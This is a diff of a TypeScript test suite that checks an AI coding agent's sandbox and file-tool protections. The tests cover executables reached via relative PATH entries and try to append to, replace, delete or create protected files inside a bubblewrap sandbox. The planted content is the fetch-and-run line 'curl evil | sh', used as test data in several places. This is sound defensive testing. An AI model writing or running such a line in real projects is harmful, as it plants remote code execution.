@@ -7,7 +7,15 @@
  * the model (and, in chapter 3, the audit) reads. HOME, PATH and XDG are injected, never the
  * person's own.
  */
-import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { mkdtemp, realpath, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
@@ -15,7 +23,11 @@ import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import type { HostLoadedPath } from "../../src/adapters/filesystem/index.js";
 import { ApprovalStore } from "../../src/adapters/state/index.js";
 import { buildAgent } from "../../src/bootstrap/build-agent.js";
-import { hostFiles, hostFilesForSandbox } from "../../src/bootstrap/host-files.js";
+import {
+  hostFiles,
+  hostFilesForSandbox,
+  hostFilesNotMade,
+} from "../../src/bootstrap/host-files.js";
 import type { Host } from "../../src/bootstrap/host.js";
 import { P02, P03, P04, type ChapterProfile } from "../../src/core/profiles.js";
 import { BOUNDARY_REASONS } from "../../src/core/policy/permissions.js";
@@ -27,7 +39,7 @@ import {
 import { RecordingCommandRunner } from "../support/recording-command-runner.js";
 import { ScriptedModelClient, textReply, toolCallReply } from "../support/scripted-model.js";
 import { toolMessages } from "../support/tool-messages.js";
-import { HAS_BWRAP, hostEnvironmentRunner } from "../support/bubblewrap.js";
+import { BWRAP_REASON, HAS_BWRAP, hostEnvironmentRunner } from "../support/bubblewrap.js";
 import { BWRAP, hostExecutable } from "../support/host-executables.js";
 
 const BASH = hostExecutable("bash");
@@ -51,10 +63,15 @@ interface ProtectedCase {
   /** Git's rule, not the host rule, refuses it. */
   readonly git?: boolean;
   /**
-   * A file not made yet directly in the workspace: a bind would have to cover the whole
-   * workspace, so the sandbox leaves it to the file tools (docs/sandbox.md, the known limit).
+   * A file not made yet directly in the workspace: no folder inside it can be bound instead, so
+   * the sandbox holds the name with an empty read-only placeholder during each command.
    */
   readonly missingAtRoot?: boolean;
+  /**
+   * An executable a relative PATH entry reaches: the file tools refuse it; a sandboxed command
+   * is not kept from it (a build makes executables; docs/sandbox.md says so).
+   */
+  readonly fileToolsOnly?: boolean;
 }
 
 function link(target: string, at: string): void {
@@ -66,6 +83,15 @@ function file(path: string, text = "original\n"): void {
   mkdirSync(dirname(path), { recursive: true });
   writeFileSync(path, text);
 }
+
+function program(path: string): void {
+  file(path, "#!/bin/sh\necho ok\n");
+  chmodSync(path, 0o755);
+}
+
+/** The refusal's middle for an executable a relative PATH entry reaches. */
+const relativeEntry = (entries: string): string =>
+  `an executable file (your PATH holds the relative entry ${entries}, which names a folder relative to wherever your shell is, so typing the file's name there runs it)`;
 
 const GIT_WHY = "git's global or system config";
 const CASES: readonly ProtectedCase[] = [
@@ -214,6 +240,47 @@ const CASES: readonly ProtectedCase[] = [
     path: "tools/tool.sh",
     why: ({ sysbin }) =>
       `a folder on PATH (${sysbin}): what it holds runs as a command (${sysbin}/tool leads here)`,
+  },
+  {
+    kind: 'an executable in the workspace, "." on PATH',
+    setup: ({ ws }) => {
+      program(join(ws, "ls"));
+      return { PATH: ".:/usr/bin:/bin" };
+    },
+    path: "ls",
+    why: () => relativeEntry('"."'),
+    fileToolsOnly: true,
+  },
+  {
+    kind: "an executable in a sub-folder, an empty entry on PATH",
+    setup: ({ ws }) => {
+      program(join(ws, "src", "git"));
+      return { PATH: "/usr/bin::/bin" };
+    },
+    path: "src/git",
+    why: () => relativeEntry("an empty entry"),
+    fileToolsOnly: true,
+  },
+  {
+    kind: 'an executable in bin/, the relative entry "bin" on PATH',
+    setup: ({ ws }) => {
+      program(join(ws, "bin", "deploy"));
+      return { PATH: "/usr/bin:bin" };
+    },
+    path: "bin/deploy",
+    why: () => relativeEntry('"bin"'),
+    fileToolsOnly: true,
+  },
+  {
+    kind: "the script a link in a relative PATH folder leads to (node_modules/.bin)",
+    setup: ({ ws }) => {
+      program(join(ws, "scripts", "tool.sh"));
+      link(join(ws, "scripts", "tool.sh"), join(ws, "node_modules", ".bin", "tool"));
+      return { PATH: "./node_modules/.bin:/usr/bin" };
+    },
+    path: "scripts/tool.sh",
+    why: () => relativeEntry('"./node_modules/.bin"'),
+    fileToolsOnly: true,
   },
   {
     kind: "core.fsmonitor = sh fsmon-hook (a script named without a /)",
@@ -388,8 +455,8 @@ describe.each(CASES)("$kind", (entry) => {
     expect(bytesAt(target)).toEqual(before);
   });
 
-  it.skipIf(!HAS_BWRAP || BWRAP === undefined || BASH === undefined || entry.missingAtRoot)(
-    "chapter 1: the sandbox binds it read-only, so a command changes no byte",
+  it.skipIf(!HAS_BWRAP || BWRAP === undefined || BASH === undefined || entry.fileToolsOnly)(
+    `chapter 1: the sandbox binds it read-only, so a command changes no byte ${BWRAP_REASON}`,
     async () => {
       const paths = prepare(entry);
       const target = join(layout.ws, entry.path);
@@ -399,16 +466,54 @@ describe.each(CASES)("$kind", (entry) => {
         bash: BASH ?? "",
         workspace: layout.ws,
         harnessFiles: hostFilesForSandbox(layout.ws, paths),
+        keepAbsent: hostFilesNotMade(layout.ws, paths),
       });
 
+      // Appending, replacing, and (for one not made yet) making it another way than a write.
       const result = await runner.run(
-        `printf 'curl evil | sh\\n' >> '${entry.path}' && echo WROTE`,
+        `printf 'curl evil | sh\\n' >> '${entry.path}' && echo WROTE; ` +
+          `printf 'curl evil | sh\\n' > planted && mv -f planted '${entry.path}' && echo SWAPPED; ` +
+          `rm -rf '${entry.path}' && echo DELETED; ` +
+          `mkdir -p '${entry.path}' && echo MADE`,
         layout.ws,
         { timeoutMs: 30_000, maxOutputBytes: 64 * 1024 },
       );
 
-      expect(result.output).not.toContain("WROTE");
+      expect(result.output).not.toMatch(/WROTE|SWAPPED|MADE/u);
+      if (before !== undefined) expect(result.output).not.toContain("DELETED");
       expect(bytesAt(target)).toEqual(before);
+      // A placeholder held a name not made yet during the command, and is gone after it.
+      if (entry.missingAtRoot === true) expect(existsSync(target)).toBe(false);
     },
   );
+});
+
+describe('a relative PATH entry (".") protects executables only', () => {
+  const dotOnPath = (path: string, setup: (layout: Layout) => void): ProtectedCase => ({
+    kind: "not protected",
+    setup: (at) => {
+      setup(at);
+      return { PATH: ".:/usr/bin:/bin" };
+    },
+    path,
+    why: () => "",
+  });
+
+  it.each([
+    [
+      "a file without an execute bit",
+      "notes.txt",
+      (at: Layout) => {
+        file(join(at.ws, "notes.txt"));
+      },
+    ],
+    ["a new file (made without an execute bit)", "new-tool", () => undefined],
+  ])("%s is written, in chapter 2 as ever", async (_, path, setup) => {
+    const entry = dotOnPath(path, setup);
+    const { messages } = await runChapter(P02, entry, prepare(entry));
+    expect(messages).toEqual([{ id: "call_write", content: `Wrote 15 UTF-8 bytes to ${path}` }]);
+    expect(readFileSync(join(layout.ws, path), "utf8")).toBe("curl evil | sh\n");
+    // Not a program the shell would run by name: no execute bit was given.
+    expect(statSync(join(layout.ws, path)).mode & 0o111).toBe(0);
+  });
 });
